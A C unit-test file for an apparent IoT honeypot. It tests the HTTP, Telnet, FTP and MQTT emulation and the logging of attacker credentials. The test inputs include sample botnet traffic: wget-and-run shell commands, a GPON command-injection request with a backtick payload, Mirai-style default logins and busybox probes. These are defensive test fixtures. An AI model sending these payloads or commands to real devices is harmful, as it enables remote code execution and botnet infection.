@@ -0,0 +1,853 @@
+/*
+ * Service tests
+ *
+ * The protocol parsers are fed each request whole, one byte at a time and
+ * cut at every pair of split points, and must reach the same result every
+ * way. The services run against a fake connection; what they send and
+ * log is captured by wrapping socket_manager_send() and
+ * attack_logger_log() at link time.
+ */
+
+#include "services/http_parser.h"
+#include "services/ftp_service.h"
+#include "services/http_service.h"
+#include "services/mqtt_parser.h"
+#include "services/mqtt_service.h"
+#include "services/service_registry.h"
+#include "services/telnet_service.h"
+#include "services/telnet_shell.h"
+#include "networking/socket_manager.h"
+#include "logging/attack_logger.h"
+#include "security/attack_signatures.h"
+#include "utils/config.h"
+#include "utils/metrics.h"
+#include "esp_log.h"
+#include "test_support.h"
+#include <arpa/inet.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+static attack_log_t last_log;
+static int log_count;
+static char logged[2048];
+static size_t logged_len;
+static char sent[4096];
+static size_t sent_len;
+
+esp_err_t __wrap_attack_logger_log(const attack_log_t *log_entry);
+int __wrap_socket_manager_send(socket_conn_t *conn, const void *data, size_t len);
+
+// Internal function prototypes
+static void reset_capture(void);
+static void open_conn(socket_conn_t *conn, uint16_t port);
+static bool feed(socket_conn_t *conn, socket_service_handler_t handler, const char *data, size_t len);
+static bool feed_str(socket_conn_t *conn, socket_service_handler_t handler, const char *str);
+
+esp_err_t __wrap_attack_logger_log(const attack_log_t *log_entry)
+{
+    memcpy(&last_log, log_entry, sizeof(last_log));
+    log_count++;
+    
+    // Every record in order, for comparing whole sessions
+    int n = snprintf(logged + logged_len, sizeof(logged) - logged_len, "%s/%s [%s]\n",
+                     log_entry->username, log_entry->password, log_entry->metadata);
+    if (n > 0) {
+        logged_len += (size_t)n < sizeof(logged) - logged_len ? (size_t)n : sizeof(logged) - logged_len - 1;
+    }
+    return ESP_OK;
+}
+
+int __wrap_socket_manager_send(socket_conn_t *conn, const void *data, size_t len)
+{
+    size_t room = sizeof(sent) - sent_len;
+    size_t n = len < room ? len : room;
+    memcpy(sent + sent_len, data, n);
+    sent_len += n;
+    conn->responded = true;
+    return (int)len;
+}
+
+static void reset_capture(void)
+{
+    memset(&last_log, 0, sizeof(last_log));
+    log_count = 0;
+    logged_len = 0;
+    logged[0] = '\0';
+    sent_len = 0;
+}
+
+static void open_conn(socket_conn_t *conn, uint16_t port)
+{
+    memset(conn, 0, sizeof(*conn));
+    conn->fd = -1;
+    conn->port = port;
+    strcpy(conn->client_ip, "198.51.100.7");
+    payload_hasher_init(&conn->payload_hash);
+    reset_capture();
+}
+
+static bool feed(socket_conn_t *conn, socket_service_handler_t handler, const char *data, size_t len)
+{
+    // What socket_manager does on every recv()
+    memcpy(conn->rx_buf + conn->rx_len, data, len);
+    payload_hasher_update(&conn->payload_hash, (const uint8_t *)data, len);
+    conn->rx_len += len;
+    conn->rx_buf[conn->rx_len] = '\0';
+    return handler(conn, conn->rx_buf, conn->rx_len);
+}
+
+static bool feed_str(socket_conn_t *conn, socket_service_handler_t handler, const char *str)
+{
+    return feed(conn, handler, str, strlen(str));
+}
+
+/* ------------------------------------------------------------------ */
+/* HTTP                                                                */
+/* ------------------------------------------------------------------ */
+
+static const char *const HTTP_CORPUS[] = {
+    "GET /shell?cd+/tmp;wget+http://45.12.3.4/x.sh HTTP/1.1\r\nHost: 10.0.0.1:80\r\n"
+    "User-Agent:   Hello, world  \r\nAccept: */*\r\n\r\n",
+    "POST /login.cgi HTTP/1.0\nContent-Length: 13\nUser-Agent: Hello\n\nuser=a&pass=b",
+    "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nConnection: keep-alive\r\n"
+    "Accept-Encoding: gzip, deflate\r\nAccept: */*\r\nUser-Agent: Hello, World\r\n"
+    "Content-Length: 117\r\n\r\n"
+    "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://1.2.3.4/m`;"
+    "&ipv=0XXXXXXXXXXXXXXXXXXXX",
+    "GET / HTTP/1.1\r\n\r\n",
+};
+
+typedef struct {
+    http_parse_result_t result;
+    http_request_t req;
+} http_outcome_t;
+
+static http_outcome_t parse_in_pieces(const char *request, size_t len, size_t cut1, size_t cut2)
+{
+    http_outcome_t out = { .result = HTTP_PARSE_INCOMPLETE };
+    size_t cuts[3] = { cut1, cut2, len };
+
+    memset(&out.req, 0, sizeof(out.req));
+    for (int i = 0; i < 3 && out.result == HTTP_PARSE_INCOMPLETE; i++) {
+        out.result = http_parser_execute(&out.req, request, cuts[i]);
+    }
+    return out;
+}
+
+static bool same_request(const http_request_t *a, const http_request_t *b)
+{
+    if (a->method.off != b->method.off || a->method.len != b->method.len ||
+        a->target.off != b->target.off || a->target.len != b->target.len ||
+        a->version.off != b->version.off || a->version.len != b->version.len ||
+        a->body_off != b->body_off || a->content_length != b->content_length ||
+        a->header_count != b->header_count) {
+        return false;
+    }
+    for (int i = 0; i < a->header_count; i++) {
+        if (memcmp(&a->headers[i], &b->headers[i], sizeof(http_header_t)) != 0) {
+            return false;
+        }
+    }
+    return true;
+}
+
+static void test_http_parser_fields(void)
+{
+    const char *request = HTTP_CORPUS[0];
+    http_request_t req = {0};
+
+    TEST_ASSERT_EQUAL(HTTP_PARSE_DONE, http_parser_execute(&req, request, strlen(request)));
+    TEST_ASSERT(http_view_equals(http_parser_view(request, req.method), "GET"));
+    TEST_ASSERT(http_view_equals(http_parser_view(request, req.target),
+                                 "/shell?cd+/tmp;wget+http://45.12.3.4/x.sh"));
+    TEST_ASSERT(http_view_equals(http_parser_view(request, req.version), "HTTP/1.1"));
+    TEST_ASSERT(http_view_equals(http_parser_header(&req, request, "user-agent"), "Hello, world"));
+    TEST_ASSERT_EQUAL(0, http_parser_header(&req, request, "Cookie").len);
+    TEST_ASSERT_EQUAL(3, req.header_count);
+}
+
+static void test_http_parser_body_stops_at_content_length(void)
+{
+    const char *request = HTTP_CORPUS[1];
+    size_t len = strlen(request);
+    http_request_t req = {0};
+
+    // A short body is incomplete until the last byte arrives
+    TEST_ASSERT_EQUAL(HTTP_PARSE_INCOMPLETE, http_parser_execute(&req, request, len - 1));
+    TEST_ASSERT(http_parser_headers_complete(&req));
+    TEST_ASSERT_EQUAL(HTTP_PARSE_DONE, http_parser_execute(&req, request, len));
+    TEST_ASSERT_EQUAL(13, req.content_length);
+    TEST_ASSERT(http_view_equals(http_parser_body(&req, request, len), "user=a&pass=b"));
+}
+
+static void test_http_parser_split_invariance(void)
+{
+    for (size_t r = 0; r < sizeof(HTTP_CORPUS) / sizeof(HTTP_CORPUS[0]); r++) {
+        const char *request = HTTP_CORPUS[r];
+        size_t len = strlen(request);
+        http_outcome_t whole = parse_in_pieces(request, len, len, len);
+        TEST_ASSERT_EQUAL(HTTP_PARSE_DONE, whole.result);
+
+        // One byte at a time
+        http_request_t req = {0};
+        http_parse_result_t result = HTTP_PARSE_INCOMPLETE;
+        for (size_t n = 1; n <= len && result == HTTP_PARSE_INCOMPLETE; n++) {
+            result = http_parser_execute(&req, request, n);
+        }
+        TEST_ASSERT_EQUAL(HTTP_PARSE_DONE, result);
+        TEST_ASSERT(same_request(&whole.req, &req));
+
+        // Every pair of cut points
+        for (size_t i = 0; i <= len; i++) {
+            for (size_t j = i; j <= len; j++) {
+                http_outcome_t split = parse_in_pieces(request, len, i, j);
+                TEST_ASSERT_EQUAL(HTTP_PARSE_DONE, split.result);
+                TEST_ASSERT(same_request(&whole.req, &split.req));
+            }
+        }
+    }
+}
+
+static void test_http_parser_rejects_non_http(void)
+{
+    static const char TLS_HELLO[] = "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03";
+    static const char BARE_HEADER[] = "GET / HTTP/1.1\r\nBad Header\r\n\r\n";
+    http_request_t req = {0};
+
+    TEST_ASSERT_EQUAL(HTTP_PARSE_ERROR, http_parser_execute(&req, TLS_HELLO, sizeof(TLS_HELLO) - 1));
+    memset(&req, 0, sizeof(req));
+    TEST_ASSERT_EQUAL(HTTP_PARSE_ERROR, http_parser_execute(&req, BARE_HEADER, sizeof(BARE_HEADER) - 1));
+}
+
+static void test_http_service_logs_post_credentials(void)
+{
+    static const char REQUEST[] =
+        "POST /cgi-bin/login HTTP/1.1\r\nUser-Agent: Mozilla/5.0\r\nContent-Length: 38\r\n\r\n"
+        "username=ad%6Din+x&password=p%40ss&x=1";
+    static socket_conn_t conn;
+
+    open_conn(&conn, 80);
+    TEST_ASSERT_FALSE(feed(&conn, http_service_handle_request, REQUEST, sizeof(REQUEST) - 1));
+    TEST_ASSERT_EQUAL(1, log_count);
+    TEST_ASSERT_EQUAL_STRING("HTTP", last_log.service);
+    TEST_ASSERT_EQUAL_STRING("admin x", last_log.username);
+    TEST_ASSERT_EQUAL_STRING("p@ss", last_log.password);
+    TEST_ASSERT_EQUAL_STRING("Mozilla/5.0", last_log.user_agent);
+    TEST_ASSERT(sent_len > 0 && strncmp(sent, "HTTP/1.1 403 Forbidden\r\n", 24) == 0);
+}
+
+static void test_http_service_credentials_stay_in_body(void)
+{
+    // Content-Length ends the body before "word=leak"; bytes past it must
+    // not be picked up even though they sit in the receive buffer
+    static const char REQUEST[] =
+        "POST / HTTP/1.1\r\nContent-Length: 12\r\n\r\n"
+        "user=bob&pas" "sword=leak&user=eve";
+    static socket_conn_t conn;
+
+    open_conn(&conn, 80);
+    TEST_ASSERT_FALSE(feed(&conn, http_service_handle_request, REQUEST, sizeof(REQUEST) - 1));
+    TEST_ASSERT_EQUAL(1, log_count);
+    TEST_ASSERT_EQUAL_STRING("bob", last_log.username);
+    TEST_ASSERT_EQUAL_STRING("N/A", last_log.password);
+}
+
+static void test_http_service_split_request(void)
+{
+    const char *request = HTTP_CORPUS[2];
+    size_t len = strlen(request);
+    static socket_conn_t conn;
+
+    open_conn(&conn, 8080);
+    for (size_t i = 0; i + 1 < len; i++) {
+        TEST_ASSERT_TRUE(feed(&conn, http_service_handle_request, request + i, 1));
+    }
+    TEST_ASSERT_FALSE(feed(&conn, http_service_handle_request, request + len - 1, 1));
+    TEST_ASSERT_EQUAL(1, log_count);
+    TEST_ASSERT(strstr(last_log.indicators, "1.2.3.4") != NULL);
+}
+
+static void test_http_service_bad_request(void)
+{
+    static socket_conn_t conn;
+
+    open_conn(&conn, 80);
+    TEST_ASSERT_FALSE(feed(&conn, http_service_handle_request, "\x16\x03\x01", 3));
+    TEST_ASSERT_EQUAL(0, log_count);
+    TEST_ASSERT(strncmp(sent, "HTTP/1.1 400 Bad Request\r\n", 26) == 0);
+}
+
+/* ------------------------------------------------------------------ */
+/* Telnet                                                              */
+/* ------------------------------------------------------------------ */
+
+// A Mirai-style client: answers the negotiation, then pipelines its
+// credentials with CR NUL, backspace, an escaped IAC, bare LF and EL
+static const char TELNET_SESSION[] =
+    "\xff\xfc\x01" "\xff\xfb\x1f" "\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0" "\xff\xfd\x01"
+    "\xff\xfd\x03" "\xff\xfd\x18"
+    "roox\bt\r\0" "xc3511\r\n"
+    "admin\n" "ad\xff\xffmin\r"
+    "\xff\xf8" "guest\r\n" "12345\r\n"
+    "enable\r\n" "cd /tmp; wget http://45.12.3.4/x.sh\r\n";
+
+typedef struct {
+    bool open;
+    char sent[4096];
+    size_t sent_len;
+    char logged[2048];
+} telnet_outcome_t;
+
+static void run_telnet(telnet_outcome_t *out, const size_t *cuts, size_t cut_count)
+{
+    static socket_conn_t conn;
+    size_t len = sizeof(TELNET_SESSION) - 1;
+    size_t pos = 0;
+
+    open_conn(&conn, 23);
+    telnet_service_on_connect(&conn);
+    out->open = true;
+    for (size_t i = 0; i <= cut_count && out->open; i++) {
+        size_t end = i < cut_count ? cuts[i] : len;
+        if (end > pos) {
+            out->open = feed(&conn, telnet_service_handle_request, TELNET_SESSION + pos, end - pos);
+            pos = end;
+        }
+    }
+    memcpy(out->sent, sent, sent_len);
+    out->sent_len = sent_len;
+    strcpy(out->logged, logged);
+}
+
+static bool contains(const char *data, size_t len, const char *needle)
+{
+    size_t n = strlen(needle);
+    for (size_t i = 0; i + n <= len; i++) {
+        if (memcmp(data + i, needle, n) == 0) {
+            return true;
+        }
+    }
+    return false;
+}
+
+static bool same_telnet(const telnet_outcome_t *a, const telnet_outcome_t *b)
+{
+    return a->open == b->open && a->sent_len == b->sent_len &&
+           memcmp(a->sent, b->sent, a->sent_len) == 0 && strcmp(a->logged, b->logged) == 0;
+}
+
+static void test_telnet_pipelined_login(void)
+{
+    static telnet_outcome_t whole;
+
+    run_telnet(&whole, NULL, 0);
+    TEST_ASSERT(whole.open);
+    TEST_ASSERT(strncmp(whole.logged, "root/xc3511 [", 13) == 0);
+    TEST_ASSERT_EQUAL_STRING(
+        "root/xc3511 [Login attempt 1, accepted]\n"
+        "root/xc3511 [Cmd: admin]\n"
+        "root/xc3511 [Cmd: ad\xffmin]\n"
+        "root/xc3511 [Cmd: guest]\n"
+        "root/xc3511 [Cmd: 12345]\n"
+        "root/xc3511 [Cmd: enable]\n"
+        "root/xc3511 [Cmd: cd /tmp; wget http://45.12.3.4/x.sh]\n", whole.logged);
+
+    // DO TTYPE is refused, the backspace is echoed as an erase, and a
+    // 0xff echoed back is escaped again
+    TEST_ASSERT(contains(whole.sent, whole.sent_len, "login: \xff\xfc\x18roox\b \bt\r\n"));
+    TEST_ASSERT(contains(whole.sent, whole.sent_len, "# ad\xff\xffmin\r\n"));
+}
+
+static void test_telnet_split_invariance(void)
+{
+    static telnet_outcome_t whole;
+    static telnet_outcome_t split;
+    size_t len = sizeof(TELNET_SESSION) - 1;
+    size_t cuts[sizeof(TELNET_SESSION)];
+
+    run_telnet(&whole, NULL, 0);
+
+    // One byte at a time
+    for (size_t i = 0; i < len; i++) {
+        cuts[i] = i + 1;
+    }
+    run_telnet(&split, cuts, len);
+    TEST_ASSERT(same_telnet(&whole, &split));
+
+    // Every pair of cut points
+    for (size_t i = 0; i <= len; i++) {
+        for (size_t j = i; j <= len; j++) {
+            cuts[0] = i;
+            cuts[1] = j;
+            run_telnet(&split, cuts, 2);
+            TEST_ASSERT(same_telnet(&whole, &split));
+        }
+    }
+}
+
+static char shell_out[2048];
+static size_t shell_len;
+
+static void shell_capture(void *ctx, const char *data, size_t len)
+{
+    size_t room = sizeof(shell_out) - 1 - shell_len;
+    size_t n = len < room ? len : room;
+    memcpy(shell_out + shell_len, data, n);
+    shell_len += n;
+    shell_out[shell_len] = '\0';
+}
+
+static bool shell_run(const char *line)
+{
+    shell_len = 0;
+    shell_out[0] = '\0';
+    return telnet_shell_execute(line, strlen(line), shell_capture, NULL);
+}
+
+static void test_shell_builtins_found(void)
+{
+    static const char *const BUILTINS[] = {
+        "cd", "mkdir", "chmod", "shell", "enable", "tftp", "system", "sh", "echo", "ps", "cp",
+        "ls", "busybox", "rm", "grep", "kill", "linuxshell", "uname", "ftpget", "wget", "cat",
+    };
+
+    TEST_ASSERT_EQUAL(ESP_OK, telnet_shell_init());
+    TEST_ASSERT_EQUAL(ESP_OK, telnet_service_init());
+    for (size_t i = 0; i < sizeof(BUILTINS) / sizeof(BUILTINS[0]); i++) {
+        TEST_ASSERT_TRUE(shell_run(BUILTINS[i]));
+        TEST_ASSERT(strstr(shell_out, "not found") == NULL);
+    }
+
+    // Near misses hash somewhere but must not match
+    TEST_ASSERT_TRUE(shell_run("cats"));
+    TEST_ASSERT_EQUAL_STRING("-sh: cats: not found\r\n", shell_out);
+    TEST_ASSERT_TRUE(shell_run("/usr/bin/wgot"));
+    TEST_ASSERT_EQUAL_STRING("-sh: /usr/bin/wgot: not found\r\n", shell_out);
+}
+
+static void test_shell_bot_probes(void)
+{
+    TEST_ASSERT_TRUE(shell_run("/bin/busybox ECCHI"));
+    TEST_ASSERT_EQUAL_STRING("ECCHI: applet not found\r\n", shell_out);
+    TEST_ASSERT_TRUE(shell_run("echo -e '\\x41\\x4b\\x34\\x37'"));
+    TEST_ASSERT_EQUAL_STRING("AK47\r\n", shell_out);
+    TEST_ASSERT_TRUE(shell_run("echo -ne '\\x7f\\x45\\x4c\\x46' > .d; /bin/busybox ECCHI"));
+    TEST_ASSERT_EQUAL_STRING("ECCHI: applet not found\r\n", shell_out);
+    TEST_ASSERT_TRUE(shell_run("cat /proc/cpuinfo | grep name; /bin/busybox ECCHI"));
+    TEST_ASSERT_EQUAL_STRING("ECCHI: applet not found\r\n", shell_out);
+    TEST_ASSERT_TRUE(shell_run("cat /proc/nope"));
+    TEST_ASSERT_EQUAL_STRING("cat: can't open '/proc/nope': No such file or directory\r\n", shell_out);
+    TEST_ASSERT_TRUE(shell_run("cd /tmp && wget http://1.2.3.4/x.sh -O- | sh"));
+    TEST_ASSERT_EQUAL_STRING("", shell_out);
+    TEST_ASSERT_FALSE(shell_run("uname -m; exit; ls"));
+    TEST_ASSERT_EQUAL_STRING("armv7l\r\n", shell_out);
+}
+
+/* ------------------------------------------------------------------ */
+/* FTP                                                                 */
+/* ------------------------------------------------------------------ */
+
+#define UPLOAD_SIZE 300000
+#define UPLOAD_READ 1000
+
+static int ftp_listener = -1;
+static int ftp_client = -1;
+static int ftp_server = -1;
+
+// PASV names the address of the control socket, so it has to be real
+static void open_ftp_control(socket_conn_t *conn)
+{
+    struct sockaddr_in addr = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+    socklen_t addr_len = sizeof(addr);
+
+    open_conn(conn, 21);
+    if (ftp_listener < 0) {
+        ftp_listener = socket(AF_INET, SOCK_STREAM, 0);
+        bind(ftp_listener, (struct sockaddr *)&addr, sizeof(addr));
+        listen(ftp_listener, 1);
+        getsockname(ftp_listener, (struct sockaddr *)&addr, &addr_len);
+        ftp_client = socket(AF_INET, SOCK_STREAM, 0);
+        connect(ftp_client, (struct sockaddr *)&addr, sizeof(addr));
+        ftp_server = accept(ftp_listener, NULL, NULL);
+    }
+    conn->fd = ftp_server;
+}
+
+static void test_ftp_login_and_commands(void)
+{
+    static const char SESSION[] =
+        "SYST\r\nPWD\r\nUSER anonymous\r\nPASS  guest@\r\nPWD\r\nTYPE I\r\nSTOR x\r\n"
+        "PASV\r\nEPSV\r\nRETR a\nFOO\r\nQUIT\r\nSYST\r\n";
+    static const char REPLIES[] =
+        "220 FTP Server Ready\r\n"
+        "215 UNIX Type: L8\r\n"
+        "530 Please login with USER and PASS.\r\n"
+        "331 Please specify the password.\r\n"
+        "230 Login successful.\r\n"
+        "257 \"/\" is the current directory\r\n"
+        "200 Switching to Binary mode.\r\n"
+        "425 Use PASV or EPSV first.\r\n"
+        "227 Entering Passive Mode (127,0,0,1,195,80).\r\n"
+        "229 Entering Extended Passive Mode (|||50000|).\r\n"
+        "550 Failed to open file.\r\n"
+        "502 Command not implemented.\r\n"
+        "221 Goodbye.\r\n";
+    static socket_conn_t conn;
+    size_t len = sizeof(SESSION) - 1;
+
+    // Whole, then in pieces that cut through commands
+    for (size_t step = len; step >= 1; step = step > 7 ? 7 : step - 1) {
+        open_ftp_control(&conn);
+        ftp_service_on_connect(&conn);
+        bool open = true;
+        for (size_t pos = 0; pos < len && open; pos += step) {
+            size_t n = len - pos < step ? len - pos : step;
+            open = feed(&conn, ftp_service_handle_request, SESSION + pos, n);
+        }
+        ftp_service_on_close(&conn);
+
+        TEST_ASSERT_FALSE(open);
+        TEST_ASSERT_EQUAL(sizeof(REPLIES) - 1, sent_len);
+        TEST_ASSERT_EQUAL_MEMORY(REPLIES, sent, sent_len);
+        TEST_ASSERT_EQUAL(1, log_count);
+        TEST_ASSERT_EQUAL_STRING("FTP", last_log.service);
+        TEST_ASSERT_EQUAL_STRING("anonymous", last_log.username);
+        TEST_ASSERT_EQUAL_STRING("guest@", last_log.password);
+    }
+}
+
+static void test_ftp_upload_is_streamed(void)
+{
+    static socket_conn_t control;
+    static socket_conn_t data;
+    static uint8_t upload[UPLOAD_SIZE];
+    static const uint8_t MIPS_ELF[] = { 0x7f, 'E', 'L', 'F', 1, 2, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0 };
+    payload_hasher_t hasher;
+    char expected_hash[PAYLOAD_HASH_HEX_SIZE];
+
+    for (size_t i = 0; i < UPLOAD_SIZE; i++) {
+        upload[i] = (uint8_t)(i * 131 + (i >> 8));
+    }
+    memcpy(upload, MIPS_ELF, sizeof(MIPS_ELF));
+    payload_hasher_init(&hasher);
+    payload_hasher_update(&hasher, upload, UPLOAD_SIZE);
+    payload_hasher_hex(&hasher, expected_hash);
+
+    open_ftp_control(&control);
+    ftp_service_on_connect(&control);
+    feed_str(&control, ftp_service_handle_request, "USER root\r\nPASS x\r\nPASV\r\n");
+
+    // Another address cannot take the transfer
+    open_conn(&data, FTP_PASV_PORT);
+    strcpy(data.client_ip, "203.0.113.66");
+    ftp_service_on_connect(&data);
+    TEST_ASSERT_FALSE(feed_str(&data, ftp_service_handle_request, "x"));
+    ftp_service_on_close(&data);
+
+    open_conn(&data, FTP_PASV_PORT);
+    ftp_service_on_connect(&data);
+    TEST_ASSERT_TRUE(feed_str(&control, ftp_service_handle_request, "STOR mips.bin\r\n"));
+
+    // Each read is dropped once counted; nothing accumulates
+    for (size_t pos = 0; pos < UPLOAD_SIZE; pos += UPLOAD_READ) {
+        TEST_ASSERT_TRUE(feed(&data, ftp_service_handle_request, (const char *)upload + pos, UPLOAD_READ));
+        TEST_ASSERT_EQUAL(0, data.rx_len);
+    }
+    reset_capture();
+    ftp_service_on_close(&data);
+    ftp_service_on_close(&control);
+
+    TEST_ASSERT_EQUAL(1, log_count);
+    TEST_ASSERT_EQUAL_STRING("root", last_log.username);
+    TEST_ASSERT_EQUAL_STRING("STOR mips.bin, 300000 bytes, magic 7f454c46010201000000000000000000",
+                             last_log.metadata);
+    TEST_ASSERT_EQUAL_STRING(expected_hash, last_log.payload_hash);
+}
+
+static void test_ftp_listing_waits_for_data_connection(void)
+{
+    static socket_conn_t control;
+    static socket_conn_t data;
+
+    open_ftp_control(&control);
+    feed_str(&control, ftp_service_handle_request, "USER a\r\nPASS b\r\nPASV\r\nLIST\r\n");
+    TEST_ASSERT(strstr(sent, "150 Here comes the directory listing.\r\n226 Directory send OK.\r\n") != NULL);
+
+    // The listing goes out as soon as the client connects
+    open_conn(&data, FTP_PASV_PORT);
+    ftp_service_on_connect(&data);
+    TEST_ASSERT(sent_len > 0 && strncmp(sent, "drwxr-xr-x", 10) == 0);
+    ftp_service_on_close(&data);
+    ftp_service_on_close(&control);
+    TEST_ASSERT_EQUAL(0, log_count);
+
+    // Passive transfers are released with their sessions
+    for (int i = 0; i < FTP_MAX_TRANSFERS + 1; i++) {
+        open_ftp_control(&control);
+        feed_str(&control, ftp_service_handle_request, "USER a\r\nPASS b\r\nPASV\r\n");
+        TEST_ASSERT(strstr(sent, "227 ") != NULL);
+        ftp_service_on_close(&control);
+    }
+}
+
+/* ------------------------------------------------------------------ */
+/* MQTT                                                                */
+/* ------------------------------------------------------------------ */
+
+#define MQTT_PACKET(...) (const uint8_t[]){ __VA_ARGS__ }, sizeof((const uint8_t[]){ __VA_ARGS__ })
+#define MQTT_REPLY(str) str, sizeof(str) - 1
+
+typedef struct {
+    const char *name;
+    const uint8_t *packet;
+    size_t len;
+    const char *connack;          // Expected reply, empty when closed unanswered
+    size_t connack_len;
+    const char *logged;           // Expected log, "" when nothing is logged
+} mqtt_case_t;
+
+static const mqtt_case_t MQTT_CASES[] = {
+    { "3.1 bare CONNECT",
+      MQTT_PACKET(0x10, 20, 0, 6, 'M', 'Q', 'I', 's', 'd', 'p', 3, 0x02, 0, 60,
+                  0, 6, 'm', 'i', 'r', 'a', 'i', '1'),
+      MQTT_REPLY("\x20\x02\x00\x05"),
+      "N/A/N/A [MQTT 3.1, keepalive 60, will: none, CONNACK not authorized (22 bytes)]\n" },
+    { "3.1.1 with credentials",
+      MQTT_PACKET(0x10, 32, 0, 4, 'M', 'Q', 'T', 'T', 4, 0xC2, 0, 30, 0, 3, 'b', 'o', 't',
+                  0, 5, 'a', 'd', 'm', 'i', 'n', 0, 8, 'p', 'a', 's', 's', 'w', 'o', 'r', 'd'),
+      MQTT_REPLY("\x20\x02\x00\x04"),
+      "admin/password [MQTT 3.1.1, keepalive 30, will: none, CONNACK bad credentials (34 bytes)]\n" },
+    { "5.0 with properties, will and username",
+      MQTT_PACKET(0x10, 37, 0, 4, 'M', 'Q', 'T', 'T', 5, 0x86, 0, 10, 3, 0x11, 0, 0,
+                  0, 2, 'c', '5', 2, 0x01, 1, 0, 4, 'w', '/', 't', 'p', 0, 2, 'h', 'i',
+                  0, 4, 'r', 'o', 'o', 't'),
+      MQTT_REPLY("\x20\x03\x00\x86\x00"),
+      "root/N/A [MQTT 5.0, keepalive 10, will: w/tp, CONNACK bad credentials (39 bytes)]\n" },
+    { "reserved flag set",
+      MQTT_PACKET(0x10, 12, 0, 4, 'M', 'Q', 'T', 'T', 4, 0x01, 0, 60, 0, 0),
+      MQTT_REPLY(""),
+      "N/A/N/A [MQTT 3.1.1, keepalive 60, will: none, CONNACK malformed (14 bytes)]\n" },
+    { "unknown protocol level",
+      MQTT_PACKET(0x10, 12, 0, 4, 'M', 'Q', 'T', 'T', 9, 0x02, 0, 60, 0, 0),
+      MQTT_REPLY("\x20\x02\x00\x01"),
+      "N/A/N/A [MQTT unknown, keepalive 60, will: none, CONNACK bad version (14 bytes)]\n" },
+    { "5.0 too large",
+      MQTT_PACKET(0x10, 0x80, 0x10, 0, 4, 'M', 'Q', 'T', 'T', 5),
+      MQTT_REPLY("\x20\x03\x00\x95\x00"),
+      "N/A/N/A [MQTT 5.0, keepalive 0, will: none, CONNACK too large (2051 bytes)]\n" },
+    { "too large before the length ends",
+      MQTT_PACKET(0x10, 0xff, 0xff, 0x7f),
+      MQTT_REPLY(""),
+      "N/A/N/A [MQTT unknown, keepalive 0, will: none, CONNACK too large (16386 bytes)]\n" },
+    { "length not minimally encoded",
+      MQTT_PACKET(0x10, 0x80, 0x00),
+      MQTT_REPLY(""),
+      "" },
+    { "SUBSCRIBE before CONNECT",
+      MQTT_PACKET(0x82, 2, 0, 1),
+      MQTT_REPLY(""),
+      "" },
+};
+
+#define MQTT_CASE_COUNT (sizeof(MQTT_CASES) / sizeof(MQTT_CASES[0]))
+
+typedef struct {
+    bool open;
+    char sent[4096];
+    size_t sent_len;
+    char logged[2048];
+} mqtt_outcome_t;
+
+static void run_mqtt(mqtt_outcome_t *out, const mqtt_case_t *c, const size_t *cuts, size_t cut_count)
+{
+    static socket_conn_t conn;
+    size_t pos = 0;
+
+    open_conn(&conn, 1883);
+    out->open = true;
+    for (size_t i = 0; i <= cut_count && out->open; i++) {
+        size_t end = i < cut_count && cuts[i] < c->len ? cuts[i] : c->len;
+        if (end > pos) {
+            out->open = feed(&conn, mqtt_service_handle_request, (const char *)c->packet + pos, end - pos);
+            pos = end;
+        }
+    }
+    memcpy(out->sent, sent, sent_len);
+    out->sent_len = sent_len;
+    strcpy(out->logged, logged);
+}
+
+static bool same_mqtt(const mqtt_outcome_t *a, const mqtt_outcome_t *b)
+{
+    return a->open == b->open && a->sent_len == b->sent_len &&
+           memcmp(a->sent, b->sent, a->sent_len) == 0 && strcmp(a->logged, b->logged) == 0;
+}
+
+static void test_mqtt_connect_outcomes(void)
+{
+    static mqtt_outcome_t out;
+
+    for (size_t i = 0; i < MQTT_CASE_COUNT; i++) {
+        const mqtt_case_t *c = &MQTT_CASES[i];
+        run_mqtt(&out, c, NULL, 0);
+        TEST_ASSERT(!out.open);
+        TEST_ASSERT_EQUAL(c->connack_len, out.sent_len);
+        TEST_ASSERT_EQUAL_MEMORY(c->connack, out.sent, out.sent_len);
+        TEST_ASSERT_EQUAL_STRING(c->logged, out.logged);
+    }
+
+    // The client ID is logged as the user agent
+    run_mqtt(&out, &MQTT_CASES[0], NULL, 0);
+    TEST_ASSERT_EQUAL_STRING("mirai1", last_log.user_agent);
+    TEST_ASSERT_EQUAL_STRING("MQTT", last_log.service);
+    run_mqtt(&out, &MQTT_CASES[2], NULL, 0);
+    TEST_ASSERT_EQUAL_STRING("c5", last_log.user_agent);
+}
+
+static void test_mqtt_split_invariance(void)
+{
+    static mqtt_outcome_t whole;
+    static mqtt_outcome_t split;
+    size_t cuts[64];
+
+    for (size_t n = 0; n < MQTT_CASE_COUNT; n++) {
+        const mqtt_case_t *c = &MQTT_CASES[n];
+        run_mqtt(&whole, c, NULL, 0);
+
+        // One byte at a time
+        for (size_t i = 0; i < c->len; i++) {
+            cuts[i] = i + 1;
+        }
+        run_mqtt(&split, c, cuts, c->len);
+        TEST_ASSERT(same_mqtt(&whole, &split));
+
+        // Every pair of cut points
+        for (size_t i = 0; i <= c->len; i++) {
+            for (size_t j = i; j <= c->len; j++) {
+                cuts[0] = i;
+                cuts[1] = j;
+                run_mqtt(&split, c, cuts, 2);
+                TEST_ASSERT(same_mqtt(&whole, &split));
+            }
+        }
+    }
+}
+
+static void test_mqtt_peek_level_waits_for_level(void)
+{
+    static const uint8_t big[] = { 0x10, 0x80, 0x10, 0, 4, 'M', 'Q', 'T', 'T', 5 };
+    static const uint8_t not_mqtt[] = { 0x10, 0x80, 0x10, 0, 7, 'H', 'T', 'T', 'P' };
+    mqtt_parser_t parser;
+    uint8_t level;
+
+    for (size_t len = 3; len < sizeof(big); len++) {
+        memset(&parser, 0, sizeof(parser));
+        TEST_ASSERT_EQUAL(MQTT_PARSE_TOO_LARGE, mqtt_parser_execute(&parser, big, len));
+        TEST_ASSERT(!mqtt_parser_peek_level(&parser, big, len, &level));
+    }
+    TEST_ASSERT(mqtt_parser_peek_level(&parser, big, sizeof(big), &level));
+    TEST_ASSERT_EQUAL(MQTT_LEVEL_5, level);
+
+    // A name longer than "MQIsdp" settles at once with no level
